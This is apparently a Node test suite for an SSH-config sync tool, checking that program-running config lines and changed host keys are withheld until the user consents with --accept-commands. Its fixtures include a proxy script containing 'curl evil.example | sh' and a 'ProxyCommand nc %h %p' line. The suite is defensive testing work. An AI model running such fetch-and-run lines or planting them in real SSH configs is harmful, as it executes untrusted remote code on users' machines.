import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { printed, runs, Stage, tells } from './stage/stage.ts';

const stage = await Stage.build();

const WITHHELD = 'it stays as it is until you accept, with --accept-commands:';

describe('what arrives only with consent', () => {
  it('withholds a config that runs a program, in both directions, and exits with 4; --yes does not accept', async () => {
    const [laptop, desktop] = await stage.pair({ config: 'Host a\n', id: '1' });
    laptop.write('config', 'Host a\nHost jump\n\tProxyCommand nc %h %p\n');
    laptop.write('id', '2');
    await runs(laptop, ['sync']);
    desktop.write('config', 'Host a\nHost mine\n');
    const ran = await runs(desktop, ['sync', '--yes'], 4);
    tells(
      ran,
      `withheld config: ${WITHHELD}`,
      '  + config, Host jump: ProxyCommand nc %h %p  (runs a program on every connection to matching hosts)',
    );
    assert.equal(ran.out, 'id: downloaded\nSync complete: 0 uploaded, 1 downloaded, 1 skipped.\n');
    assert.equal(desktop.read('config'), 'Host a\nHost mine\n');
    assert.deepEqual((await printed(laptop, 'status')).slice(2), ['everything is in step']);
    assert.deepEqual((await printed(desktop, 'status')).slice(2), [
      'config: to be merged (changed on both sides)',
      'config: needs your consent (--accept-commands) for:',
      '  + config, Host jump: ProxyCommand nc %h %p  (runs a program on every connection to matching hosts)',
      '1 file differs',
    ]);
    assert.deepEqual(await printed(desktop, 'sync', '--accept-commands'), [
      'Sync complete: 1 uploaded, 1 downloaded, 1 skipped.',
      'config: merged',
    ]);
  });

  it('remembers an accepted line, for this machine and block', async () => {
    const [laptop, desktop] = await stage.pair({ config: 'Host a\n\tPort 1\n' });
    laptop.write('config', 'Host a\n\tPort 1\n\tForwardAgent yes\n');
    await runs(laptop, ['sync']);
    await runs(desktop, ['sync', '--accept-commands']);
    laptop.write('config', 'Host a\n\tPort 1\n');
    await runs(laptop, ['sync']);
    await runs(desktop, ['sync', '--accept-commands']);
    laptop.write('config', 'Host a\n\tPort 1\n\tForwardAgent yes\n');
    await runs(laptop, ['sync']);
    await runs(desktop, ['sync']);
    laptop.write('config', 'Host a\n\tPort 1\n\tForwardAgent yes\nHost b\n\tForwardAgent yes\n');
    await runs(laptop, ['sync']);
    const { err } = await runs(desktop, ['sync'], 4);
    assert.match(err, /^ {2}\+ config, Host b: ForwardAgent yes {2}\(/m);
  });

  it('asks about the program that a command names, now and whenever it changes', async () => {
    const [laptop, desktop] = await stage.pair();
    laptop.write('config', 'Host a\n\tProxyCommand ~/.ssh/proxy.sh %h\n');
    laptop.write('proxy.sh', '#!/bin/sh\n', { mode: 0o755 });
    await runs(laptop, ['sync']);
    const first = await runs(desktop, ['sync'], 4);
    assert.deepEqual(
      first.err.split('\n').filter((line) => line.startsWith('withheld')),
      [`withheld config: ${WITHHELD}`, `withheld proxy.sh: ${WITHHELD}`],
    );
    await runs(desktop, ['sync', '--accept-commands']);
    laptop.write('proxy.sh', '#!/bin/sh\ncurl evil.example | sh\n', { mode: 0o755 });
    await runs(laptop, ['sync']);
    const { err } = await runs(desktop, ['sync'], 4);
    assert.match(
      err,
      /^withheld proxy\.sh: .*\n {2}\+ proxy\.sh: the whole file, 33 bytes, SHA-256 [0-9a-f]{64} {2}\(ssh_config names it in a command; to see what changes: ssh-sync diff\)\n$/,
    );
    assert.equal(desktop.read('proxy.sh'), '#!/bin/sh\n');
  });

  it('asks about another key for a known host, but not about a new host', async () => {
    const [laptop, desktop] = await stage.pair({ known_hosts: `web.example ${key('one')}\n` });
    laptop.write('known_hosts', `web.example ${key('one')}\ndb.example ${key('db')}\n`);
    await runs(laptop, ['sync']);
    await runs(desktop, ['sync']);
    laptop.write('known_hosts', `web.example ${key('two')}\ndb.example ${key('db')}\n`);
    await runs(laptop, ['sync']);
    tells(
      await runs(desktop, ['sync'], 4),
      `withheld known_hosts: ${WITHHELD}`,
      `  + known_hosts, web.example: web.example ${key('two')}  (new key for a known host: web.example)`,
    );
    await runs(desktop, ['download', '--accept-commands', '--on-conflict', 'overwrite']);
    assert.equal(desktop.read('known_hosts'), laptop.read('known_hosts'));
  });

  it('tells of two machines that were shown different keys by one host', async () => {
    const [laptop, desktop] = await stage.pair({ known_hosts: '' });
    laptop.write('known_hosts', `web.example ${key('one')}\n`);
    desktop.write('known_hosts', `web.example ${key('two')}\n`);
    await runs(laptop, ['sync']);
    const { err } = await runs(desktop, ['sync', '--accept-commands']);
    assert.match(err, /^ssh-sync: warning: known_hosts: web\.example: .*intercept/m);
    assert.equal(desktop.read('known_hosts').split('\n').length, 3, 'both keys are kept');
  });
});

function key(seed: string): string {
  const blob = Buffer.concat([Buffer.from('\0\0\0\x0bssh-ed25519\0\0\0\x20'), Buffer.alloc(32, seed)]);
  return `ssh-ed25519 ${blob.toString('base64')}`;
}
